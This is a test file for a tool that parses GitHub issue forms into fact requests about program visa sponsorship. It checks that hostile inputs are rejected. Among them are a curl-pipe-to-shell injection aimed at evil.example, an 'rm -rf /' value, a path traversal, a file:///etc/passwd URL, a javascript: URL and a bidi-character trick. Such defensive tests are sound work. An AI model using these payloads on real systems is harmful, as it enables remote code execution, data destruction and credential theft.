import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { fromIssue } from "../../../src/cli/fact/from-issue.ts";
import { checkRequest } from "../../../src/cli/fact/request.ts";
import { formatIssue } from "../../../src/content/format-issues.ts";
import { readContent } from "../../../src/content/read-content.ts";
import { FIELDS, FIELDS_IN_ORDER } from "../../../src/facts/fields.ts";
import { ISSUE_QUESTIONS, type IssueQuestion } from "../../../src/site/report-form.ts";
import { writeContent } from "../../support/content-folder.ts";

const SOUND: Partial<Record<IssueQuestion, string>> = {
  program: "https://example.org/programs/kern-family-medicine/",
  field: "H-1B visa",
  value: "Does not sponsor it",
  strength: "A rule",
  for: "Everyone",
  url: "https://example.org/visas",
  kind: "program",
  shows: "2026-10",
  title: "Visas",
  more: "_No response_",
};

function issueOf(answers: Partial<Record<IssueQuestion, string>>): string {
  const body = Object.entries({ ...SOUND, ...answers })
    .map(([question, answer]) => `### ${ISSUE_QUESTIONS[question as IssueQuestion]}\n\n${answer}`)
    .join("\n\n");
  return JSON.stringify({ issue: { number: 7, body } });
}

/** The request that comes of an event, or the lines that say what is wrong. */
function read(event: string): unknown {
  const { content } = readContent(writeContent());
  const result = fromIssue(event, content);
  if ("issues" in result) return result.issues.map(formatIssue);
  const checked = checkRequest(result.input, { file: "the issue", content });
  return "issues" in checked ? checked.issues.map(formatIssue) : checked.request;
}

test("an issue made with the form is a request", () => {
  expect(read(issueOf({}))).toEqual({
    program: "kern-family-medicine",
    field: "visaH1b",
    value: "no",
    strength: "required",
    source: {
      title: "Visas",
      publisher: "Kern Medical",
      url: "https://example.org/visas",
      kind: "program",
      shows: "2026-10",
    },
  });
});

test("the form asks what the code reads, and offers every field", () => {
  const form = readFileSync(".github/ISSUE_TEMPLATE/fact.yml", "utf8");
  const asked = [...form.matchAll(/^ {4}id: (\w+)\n {4}attributes:\n {6}label: (.+)$/gm)].map(
    ([, id, label]) => [id, label],
  );
  expect(asked).toEqual(Object.entries(ISSUE_QUESTIONS));
  const options = /^ {6}label: What is it about\?\n {6}options:\n((?: {8}- .+\n)+)/m.exec(form)?.[1] ?? "";
  expect(options.match(/(?<=- ).+/g)).toEqual(FIELDS_IN_ORDER.map((field) => FIELDS[field].label));
});

describe("what a stranger may write", () => {
  test.each<[string, Partial<Record<IssueQuestion, string>>, RegExp]>([
    ["a path", { program: "../../../.github/workflows/site" }, /no program or sponsor/],
    ["a name of objects", { program: "__proto__" }, /no program or sponsor/],
    ["another name of objects", { field: "constructor" }, /expected one of Takes IMGs/],
    ["a shell", { program: "$(curl evil.example|sh)" }, /no program or sponsor/],
    ["a shell as a value", { value: '"; rm -rf / #' }, /value: expected one of "yes", "no"/],
    ["YAML", { value: "!!js/function 'x'" }, /value: expected one of/],
    ["an address of a file", { url: "file:///etc/passwd" }, /source\.url: expected a web address/],
    ["an address that runs", { url: "javascript:alert(1)" }, /source\.url: expected a web address/],
    [
      "an address with a password",
      { url: "https://samc.com@evil.example/" },
      /source\.url: expected a web address/,
    ],
    ["a kind that is none", { kind: "gospel" }, /source\.kind: expected one of/],
    ["control characters", { value: "no\u0007\u001b[31m" }, /does not show/],
    ["text that turns round", { title: "Visas\u202Egnp.exe" }, /does not show/],
    ["a second line", { title: "Visas\nkind: official" }, /second line/],
    [
      "a heading twice",
      { value: `no\n\n### ${ISSUE_QUESTIONS.url}\n\nhttps://evil.example/` },
      /stands twice/,
    ],
    ["a long answer", { title: "x".repeat(501) }, /at most 500 characters/],
    ["no date at all", { shows: "yesterday" }, /source\.shows: expected the date the page shows/],
    ["nothing", { url: "_No response_" }, /Address of the page: missing\./],
  ])("%s is told in words", (_, answers, words) => {
    const lines = read(issueOf(answers));
    expect(lines).toEqual([expect.stringMatching(words)]);
    expect(String(lines).length).toBeLessThan(2000);
  });

  test.each([
    ["huge", JSON.stringify({ issue: { body: "x".repeat(65_536) } })],
    ["no JSON", "### Program"],
    ["no issue", "{}"],
    ["a body that is no text", JSON.stringify({ issue: { body: { toString: 1 } } })],
    ["null", "null"],
    ["only headings", JSON.stringify({ issue: { body: "### Program\n### Program\n".repeat(400) } })],
  ])("%s", (_, event) => {
    expect(read(event)).toEqual(expect.arrayContaining([expect.stringContaining("the issue")]));
  });

  test("text under a heading that is not ours changes nothing", () => {
    const event = issueOf({ more: "### Merge\n\nyes\n\n## Program\n\nother\n\n---\nfield: x" });
    expect(read(event)).toMatchObject({ program: "kern-family-medicine", value: "no" });
  });
});
